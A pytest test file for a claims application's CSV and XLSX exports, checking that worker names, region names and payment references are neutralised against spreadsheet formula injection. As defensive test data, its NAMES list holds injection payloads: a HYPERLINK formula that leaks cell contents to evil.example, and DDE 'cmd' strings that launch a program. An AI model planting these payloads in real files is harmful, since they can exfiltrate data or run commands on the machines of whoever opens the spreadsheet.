"""Formula injection: a worker, region or payment reference that a spreadsheet would run as a
formula reaches the auditor's CSV and XLSX as inert text (a leading ``'``, as OWASP advises),
on both databases, while numbers stay numbers; and no module but :mod:`app.core.cells` can
write a spreadsheet."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path
from typing import Any

import pytest
from httpx import AsyncClient
from openpyxl import load_workbook
from sqlalchemy import ARRAY, String, func, literal, select
from sqlalchemy.ext.asyncio import AsyncSession
from sqlmodel import col

from app.core import cells, copy
from app.core.cells import neutral, neutral_text
from app.core.db import Database
from app.core.sql import masked
from app.masking import mask_id_number
from app.models import Claim
from tests.factories import (
    QIJI,
    Factory,
    claim_body,
    file_claim,
    hired,
    move_claim,
    new_policy,
    problem,
)

CLAIMS = "/api/v1/claims"
REPORT = "/api/v1/stats/overview.xlsx"
# OWASP's list and its full-width forms, as an attacker would name a worker. The API trims
# whitespace from names, so "\t=…" arrives as "=…"; a zero-width space or a byte-order mark is
# no whitespace to trim and arrives in front of the "=".
NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '＝HYPERLINK("http://evil.example/")',
    "＋1＋1",
    "－1",
    "＠SUM(A1)",
    "\t=1+1",
    "\u200b=1+1",
    "\ufeff@SUM(A1)",
    "\u3000=1+1",
]
# The rule itself: (text, what a cell holds).
RULE = [
    ("", ""),
    ("李秀英", "李秀英"),
    ("=1+1", "'=1+1"),
    ("+1", "'+1"),
    ("-1", "'-1"),
    ("@A1", "'@A1"),
    ("＝1", "'＝1"),
    ("＋1", "'＋1"),
    ("－1", "'－1"),
    ("＠A1", "'＠A1"),
    ("\tabc", "'\tabc"),
    ("\rabc", "'\rabc"),
    ("\t", "'\t"),
    ("  =1+1", "'  =1+1"),
    ("\n=1+1", "'\n=1+1"),
    ("\u3000\u00a0+1", "'\u3000\u00a0+1"),
    ("\u200b\ufeff-1", "'\u200b\ufeff-1"),
    ("  abc", "  abc"),
    ("\nabc", "\nabc"),
    ("'=1+1", "'=1+1"),  # already inert: never a second quote
    ("a=1", "a=1"),
    ("1-2", "1-2"),
    ("#N/A", "#N/A"),
    ('"=1"', '"=1"'),
    ("\x85=1", "'\x85=1"),
    ("\x84=1", "\x84=1"),
    ("\ufeff", "\ufeff"),
    ("  ", "  "),
    ("\ufeff\uff0b1", "'\ufeff\uff0b1"),
    ("\u3001=", "\u3001="),
    ("9=1", "9=1"),
]


@pytest.mark.parametrize(("text", "cell"), RULE)
def test_the_rule(text: str, cell: str) -> None:
    assert neutral(text) == cell
    assert neutral(cell) == cell  # applying it twice changes nothing


def test_every_whitespace_character_counts_as_leading_blank() -> None:
    assert all(c in cells.BLANKS for c in map(chr, range(0x110000)) if c.isspace())


def test_the_databases_shortcut_skips_no_character_of_the_rule() -> None:
    ranges = cells.PLAIN_STARTS
    assert not [
        c for c in cells.TRIGGERS + cells.BLANKS if any(a <= ord(c) <= b for a, b in ranges)
    ]


@pytest.mark.parametrize("text", [t for t, _ in RULE] + [*NAMES, None])
async def test_the_database_applies_the_same_rule(session: AsyncSession, text: str | None) -> None:
    found = await session.scalar(select(neutral_text(literal(text, String()))))
    assert found == (None if text is None else neutral(text))


@pytest.mark.parametrize(
    "text", ["=12345678901", " =12345678901", "      =12345", "\t", "34040619850312001X", "＝1"]
)
async def test_the_database_neutralises_masked_text_as_python_does(
    session: AsyncSession, text: str
) -> None:
    found = await session.scalar(select(neutral_text(masked(literal(text, String())))))
    masked_in_python = mask_id_number(text)
    assert masked_in_python is not None
    assert found == neutral(masked_in_python)


async def test_an_export_with_a_raw_text_column_is_refused(db: Database) -> None:
    raw = select(col(Claim.id), col(Claim.payment_reference))
    with pytest.raises(TypeError, match="payment_reference"):
        copy.csv_rows(db, raw)
    with pytest.raises(TypeError, match="bank_account"):
        copy.csv_rows(db, select(masked(Claim.bank_account).label("bank_account")))
    with pytest.raises(TypeError, match="currency"):
        copy.csv_rows(db, select(literal("=1+1").label("currency")))
    copy.csv_rows(db, select(col(Claim.id), neutral_text(Claim.payment_reference), literal("CNY")))
    copy.csv_rows(db, select(neutral_text(masked(Claim.bank_account))))


@pytest.mark.postgres_only
async def test_copy_neutralised_in_sql_is_byte_for_byte_the_python_writers_file(
    db: Database,
) -> None:
    # The rule in the query, streamed by COPY; and the raw text, neutralised by the writer.
    texts = [t for t, _ in RULE] + NAMES + ['a,"b"\nc', None]
    values = select(func.unnest(literal(texts, ARRAY(String()))).label("t")).subquery()
    copied = copy._copy_out(db, select(neutral_text(values.c.t), literal(-5)))
    written = copy._batches(db, select(values.c.t, literal(-5)))
    copied_bytes = b"".join([chunk async for chunk in copied])
    assert copied_bytes == b"".join([chunk async for chunk in written])
    assert b'"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")",-5\n' in copied_bytes


def test_numbers_stay_numbers_and_text_is_never_a_formula() -> None:
    book = cells.Book()
    book.sheet("s").append([-5, 0.25, "-5", "=1+1", "#DIV/0!", None, "ok"])
    out = io.BytesIO()
    book.save(out)
    row = next(load_workbook(io.BytesIO(out.getvalue()))["s"].iter_rows())
    assert [(c.value, c.data_type) for c in row] == [
        (-5, "n"), (0.25, "n"), ("'-5", "s"), ("'=1+1", "s"), ("#DIV/0!", "s"), (None, "n"),
        ("ok", "s"),
    ]  # fmt: skip


# -- from the outside ------------------------------------------------------------------------


async def _named_claims(factory: Factory, admin: AsyncClient) -> dict[int, str]:
    """A claim for a worker of each dangerous name; ``{claim id: the name as stored}``."""
    await new_policy(admin, "on_job_training")
    made = {}
    for name in NAMES:
        job = await hired(factory, worker={"full_name": name})
        claim = await file_claim(job.boss, claim_body(job))
        made[claim["id"]] = job.worker["full_name"]
    return made


def _inert(value: Any) -> bool:
    return not isinstance(value, str) or neutral(value) == value


async def _exported(factory: Factory, fmt: str) -> tuple[dict[int, str], bytes]:
    """The dangerous names' claims, and the export an auditor pulls in ``fmt``."""
    made = await _named_claims(factory, await factory.as_role("admin"))
    r = await (await factory.as_role("auditor")).get(f"{CLAIMS}/export", params={"format": fmt})
    assert r.status_code == 200, r.text
    return made, r.content


async def test_dangerous_names_reach_the_csv_as_inert_text(factory: Factory) -> None:
    made, content = await _exported(factory, "csv")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert all(_inert(value) for row in rows for value in row)
    by_id = {int(row[0]): row for row in rows[1:]}
    assert {i: by_id[i][4] for i in made} == {i: "'" + name for i, name in made.items()}
    # The amount is a bare number, not quoted text.
    line = content.decode("utf-8-sig").splitlines()[1]
    amount = by_id[min(made)][12]
    assert amount.isdigit()
    assert f",{amount}," in line


async def test_dangerous_names_reach_the_xlsx_as_text_cells(factory: Factory) -> None:
    made, content = await _exported(factory, "xlsx")
    sheet = load_workbook(io.BytesIO(content))["claims"]
    rows = list(sheet.iter_rows(min_row=2))
    assert all(c.data_type != "f" and _inert(c.value) for row in rows for c in row)
    names = {row[0].value: (row[4].value, row[4].data_type) for row in rows}
    assert names == {i: ("'" + name, "s") for i, name in made.items()}
    assert all(row[12].data_type == "n" and isinstance(row[12].value, int) for row in rows)


async def test_a_line_break_inside_a_name_stays_inside_its_quoted_cell(factory: Factory) -> None:
    # A spreadsheet ends a row at a bare carriage return too: unquoted, the formula after it
    # would start a row of its own.
    admin = await factory.as_role("admin")
    await new_policy(admin, "on_job_training")
    for name in ("王\r=1+1", "李\n@SUM(A1)", "张\r\n-1+1"):
        job = await hired(factory, worker={"full_name": name})
        await file_claim(job.boss, claim_body(job))
    auditor = await factory.as_role("auditor")
    text = (await auditor.get(f"{CLAIMS}/export")).content.decode("utf-8-sig")
    for name in ("王\r=1+1", "李\n@SUM(A1)", "张\r\n-1+1"):
        assert f',"{name}",' in text
    outside_quotes = text.split('"')[::2]
    assert all("\r" not in part for part in outside_quotes)


async def test_a_payment_reference_starting_with_a_minus_is_inert(factory: Factory) -> None:
    admin = await factory.as_role("admin")
    await new_policy(admin, "on_job_training", notice_days=0)
    reviewers = [await factory.as_role("admin") for _ in range(2)]
    job = await hired(factory)
    claim = await file_claim(job.boss, claim_body(job))
    await move_claim(job.boss, claim["id"], "submit")
    for reviewer in reviewers:
        await move_claim(reviewer, claim["id"], "approve")
    await move_claim(admin, claim["id"], "pay", payment_reference="-1-1")
    auditor = await factory.as_role("auditor")
    r = await auditor.get(f"{CLAIMS}/export")
    [row] = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert row["payment_reference"] == "'-1-1"
    assert row["status"] == "paid"


async def test_a_region_named_as_a_formula_is_text_in_the_stats_report(factory: Factory) -> None:
    admin = await factory.as_role("admin")
    name = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    village = f"{QIJI}299"
    body = {"code": village, "name": name, "level": "village", "parent_code": QIJI}
    r = await admin.post("/api/v1/regions", json=body)
    assert r.status_code == 201, r.text
    r = await admin.get(REPORT, params={"region": village})
    assert r.status_code == 200, r.text
    book = load_workbook(io.BytesIO(r.content))
    title = book["overview"]["A1"]
    assert (title.value, title.data_type) == (f"'{name} ({village}) — {_year(r)}", "s")
    every = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" and _inert(c.value) for c in every)
    counts = [c for c in every if c.column == 3 and isinstance(c.value, int)]
    assert counts
    assert all(c.data_type == "n" for c in counts)


def _year(r: Any) -> str:
    return str(r.headers["content-disposition"].rsplit("-", 1)[1].split(".")[0])


async def test_exporting_still_needs_an_auditor_or_admin(factory: Factory) -> None:
    cw = await factory.as_role("caseworker")
    problem(await cw.get(f"{CLAIMS}/export"), 403, "forbidden")


# -- the one writer --------------------------------------------------------------------------

APP = Path(__file__).resolve().parents[1] / "app"
WRITER = APP / "core" / "cells.py"
# What may be imported from openpyxl elsewhere: reading an upload, and chart furniture (a
# chart holds no cells of its own).
READING = {"openpyxl": {"load_workbook"}, "openpyxl.chart": {"BarChart", "LineChart"}}
WRITING_CALLS = {"writer", "DictWriter", "to_csv", "to_excel", "copy_from_query",
                 "copy_from_table", "copy_records_to_table"}  # fmt: skip


def _bypasses(path: Path) -> list[str]:
    found = []
    for node in ast.walk(ast.parse(path.read_text(), str(path))):
        if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl"):
            allowed = READING.get(node.module or "", set())
            found += [f"from {node.module} import {a.name}" for a in node.names
                      if a.name not in allowed]  # fmt: skip
        elif isinstance(node, ast.Import):
            found += [f"import {a.name}" for a in node.names if a.name.startswith("openpyxl")]
        elif isinstance(node, ast.Attribute) and node.attr in WRITING_CALLS:
            found.append(f".{node.attr}")
    return found


def test_no_module_but_the_cell_writer_writes_a_spreadsheet() -> None:
    copy_path = APP / "core" / "copy.py"
    offenders = {
        str(path.relative_to(APP)): found
        for path in APP.rglob("*.py")
        if path != WRITER and (found := _bypasses(path))
    }
    # COPY itself stays in copy.py, behind cells.require_neutral.
    assert offenders == {str(copy_path.relative_to(APP)): [".copy_from_query"]}
    assert "cells.require_neutral(stmt)" in copy_path.read_text()
